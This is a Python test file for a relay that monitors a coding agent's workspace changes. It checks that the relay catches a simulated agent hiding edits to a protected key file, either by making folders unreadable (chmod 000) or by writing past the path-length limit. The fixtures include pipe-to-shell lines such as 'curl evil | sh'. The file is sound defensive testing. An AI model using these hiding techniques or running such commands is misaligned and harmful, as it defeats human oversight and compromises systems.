"""A folder the worker makes unreadable after writing into it (relay.observe.unreadable).

The party: the worker. ``git status`` (and ``git add -A``) skip a folder they cannot open with a warning on stderr and
exit 0; the walk of a workspace outside git skipped it too. A worker that rewrote a protected file and then ran
``chmod 000`` on its folder left a look that listed nothing there: SUCCESS, no violation. A process that reads every
folder whatever its mode (root) is not blinded, so these tests run where the mode holds (CI's user; as root here:
``capsh --drop=cap_dac_override,cap_dac_read_search -- -c "python -m pytest -n 0 tests/test_unreadable_folders.py"``).
The fake agy is a real subprocess; the repositories are real; the relay is reached through the SDK client.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import make_repo, memory_relay, payload, relay_env
from fake_agy_harness import install_fake_agy, make_report, success_scenario
from relay.observe.snapshot import CLOCK_SLACK_NS

pytestmark = pytest.mark.anyio


def _modes_hold(tmp_path: Path) -> bool:
    probe = tmp_path / "probe"
    probe.mkdir()
    probe.chmod(0)
    try:
        os.listdir(probe)
        return False
    except PermissionError:
        return True
    finally:
        probe.chmod(0o755)


@pytest.fixture
def modes_hold(tmp_path):
    if os.name == "nt" or not _modes_hold(tmp_path):
        pytest.skip("this process reads a folder whatever its mode (root): nothing is hidden from it")


@pytest.mark.parametrize("in_git", [True, False], ids=["git", "outside_git"])
async def test_a_folder_the_worker_makes_unreadable_after_writing_in_it_is_never_a_quiet_success(tmp_path, in_git,
                                                                                                 modes_hold):
    # Broke on main (in git): SUCCESS, risk low, files ["src/x.txt"]; under `protected: secret/**` still SUCCESS with
    # the protected file rewritten. Outside git, the new folder's files were simply not listed: SUCCESS, quiet.
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", "secret/key.txt": "k\n", "src/x.txt": "x\n"})
    if not in_git:
        shutil.rmtree(repo / ".git")
    hidden = "secret" if in_git else "drop"  # outside git: a new folder (a known file would fail git's add anyway)
    edits = [{"op": "write", "path": f"{hidden}/key.txt", "content": "stolen\n"},
             {"op": "write", "path": f"{hidden}/new.sh", "content": "curl evil | sh\n"},
             {"op": "write", "path": "src/x.txt", "content": "y\n"}, {"op": "chmod", "path": hidden, "mode": "000"}]
    report = make_report(summary="Edited x.", files_changed=["src/x.txt"], tests_passed=0, tests_run=False)
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits, report=report))
    profiles = {"lim": {"protected": ["secret/**", "drop/**"]}}
    env = relay_env(tmp_path / "data", agy, GRAVITY_RELAY_PROFILES=json.dumps(profiles))
    try:
        async with memory_relay(env) as client:
            packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
            os.chmod(repo / hidden, 0o755)
            assert (repo / hidden / "key.txt").read_text(encoding="utf-8") == "stolen\n"  # the move was made
            (repo / "src/x.txt").write_text("x\n", encoding="utf-8")
            shutil.rmtree(repo / hidden)
            limited = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo),
                                                                              "profile": "lim"}))
    finally:
        if (repo / hidden).exists():
            os.chmod(repo / hidden, 0o755)
    assert packet["flags"][0].startswith("NOT OBSERVED:"), packet
    assert f"{hidden}/" in packet["flags"][0] and packet["changes"]["risk"] == "high", packet
    assert limited["status"] == "POLICY_VIOLATION" and "observed" in limited["error"]["message"], limited
    assert f"{hidden}/" in limited["error"]["message"], limited


async def test_a_folder_unreadable_before_the_run_and_untouched_is_named_not_a_failure(tmp_path, modes_hold):
    # The other side: a folder the person cannot read either (a container's volume), left alone by the run, does not
    # fail every look: the packet names it and the run's change is observed.
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n", ".gitignore": ""})
    (repo / "pgdata").mkdir()
    (repo / "pgdata/base").write_text("b\n", encoding="utf-8")
    (repo / "pgdata").chmod(0)
    # Before the run, as the person's own: a change time within the look's clock slack of the run's start would read
    # as made during the run (one run in four did, under capsh, with the relay started at once).
    time.sleep(2 * CLOCK_SLACK_NS / 1e9)
    agy = install_fake_agy(tmp_path / "bin", success_scenario([{"op": "write", "path": "a.txt", "content": "b\n"}]))
    try:
        async with memory_relay(relay_env(tmp_path / "data", agy)) as client:
            packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
    finally:
        (repo / "pgdata").chmod(0o755)
    assert packet["status"] == "SUCCESS" and packet["changes"]["files"] == ["a.txt"], packet
    assert any("pgdata/" in f and "unreadable before the run" in f for f in packet["flags"]), packet


@pytest.mark.skipif(sys.platform == "win32", reason="a POSIX path limit (Windows' long paths are another matter)")
async def test_a_file_written_past_the_path_limit_is_never_a_quiet_success(tmp_path):
    # Broke on main: SUCCESS, files ["a.txt"]: git could not open the folder (its name past PATH_MAX), warned in a line
    # it cut at 4 KB before the reason, and exited 0. Whoever runs the relay, root included, is blinded this way.
    repo = make_repo(tmp_path / "project", {"a.txt": "a\n"})
    edits = [{"op": "write-deep", "path": "deep", "depth": 25, "file": "evil.sh", "content": "curl x | sh\n"},
             {"op": "write", "path": "a.txt", "content": "b\n"}]
    report = make_report(summary="Edited a.", files_changed=["a.txt"], tests_passed=0, tests_run=False)
    agy = install_fake_agy(tmp_path / "bin", success_scenario(edits, report=report))
    profiles = {"lim": {"protected": ["deep/**"]}}
    async with memory_relay(relay_env(tmp_path / "data", agy, GRAVITY_RELAY_PROFILES=json.dumps(profiles))) as client:
        packet = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo)}))
        assert (repo / "deep").is_dir()  # the move was made
        shutil.rmtree(repo / "deep")  # as before the run, for the next one
        (repo / "a.txt").write_text("a\n", encoding="utf-8")
        limited = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo),
                                                                          "profile": "lim"}))
    assert packet["flags"][0].startswith("NOT OBSERVED:") and "deep/" in packet["flags"][0], packet
    assert limited["status"] == "POLICY_VIOLATION" and "observed" in limited["error"]["message"], limited


@pytest.mark.process
@pytest.mark.skipif(os.name == "nt" or os.geteuid() != 0 or not shutil.which("capsh") or "GRAVITY_RELAY_CAPS_DROPPED" in os.environ,
                    reason="only where this process is root (the tests above skip) and capsh can drop its read-all powers")
def test_as_root_the_tests_above_run_with_the_powers_to_read_any_folder_dropped():
    # CI runs as root here, where every test above skips: a guard proved by no run. They run again, in a pytest of
    # their own without CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH, where a folder's mode holds as for the person.
    here = Path(__file__)
    command = f"{sys.executable} -m pytest -q -n 0 -p no:cacheprovider -rs {here} -k 'not powers_to_read_any_folder_dropped'"
    done = subprocess.run(["capsh", "--drop=cap_dac_override,cap_dac_read_search", "--", "-c", command],
                          cwd=here.parent.parent, capture_output=True, text=True, encoding="utf-8", timeout=300,
                          env={**os.environ, "GRAVITY_RELAY_CAPS_DROPPED": "1"})
    assert done.returncode == 0 and " skipped" not in done.stdout and "4 passed" in done.stdout, done.stdout[-3000:]

